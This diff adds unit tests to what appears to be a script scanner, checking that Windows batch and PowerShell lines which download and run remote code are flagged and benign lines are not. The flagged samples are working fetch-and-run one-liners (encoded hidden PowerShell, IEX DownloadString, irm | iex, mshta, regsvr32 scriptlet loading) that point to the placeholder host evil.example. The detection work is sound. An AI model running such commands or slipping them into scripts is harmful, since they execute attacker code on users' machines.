@@ -92,6 +92,28 @@ describe('shell scripts', () => {
   });
 });
 
+describe('scripts of Windows', () => {
+  test.each([
+    ['run.bat', 'powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4A'],
+    ['run.cmd', 'start mshta https://evil.example/x.hta'],
+    ['run.ps1', 'IEX (New-Object Net.WebClient).DownloadString("https://evil.example/a")'],
+    ['run.ps1', 'irm https://evil.example/a | iex'],
+    ['run.bat', 'regsvr32 /s /n /u /i:https://evil.example/x.sct scrobj.dll'],
+  ])('%s: %s', async (name, line) => {
+    expect(await told(`${line}\r\n`, name)).toContain('medium text.fetch-and-run');
+  });
+
+  test.each([
+    ['run.bat', 'python -m venv env'],
+    ['run.bat', 'rem powershell -enc SQBFAFgAIAAoAE4A'],
+    ['run.bat', 'powershell -ExecutionPolicy Bypass -File install.ps1'],
+    ['run.ps1', 'Invoke-WebRequest https://huggingface.co/x -OutFile model.bin'],
+    ['run.ps1', '# irm https://example.org | iex'],
+  ])('%s: %s is ordinary', async (name, line) => {
+    expect(await told(`${line}\r\n`, name)).not.toContain('medium text.fetch-and-run');
+  });
+});
+
 test('a model card says where a model comes from', async () => {
   const card =
     '---\nlicense: mit\nbase_model:\n- org/base\ntags: [pytorch, custom_code]\nother: x\n---\n# Model\nlicense: no\n';
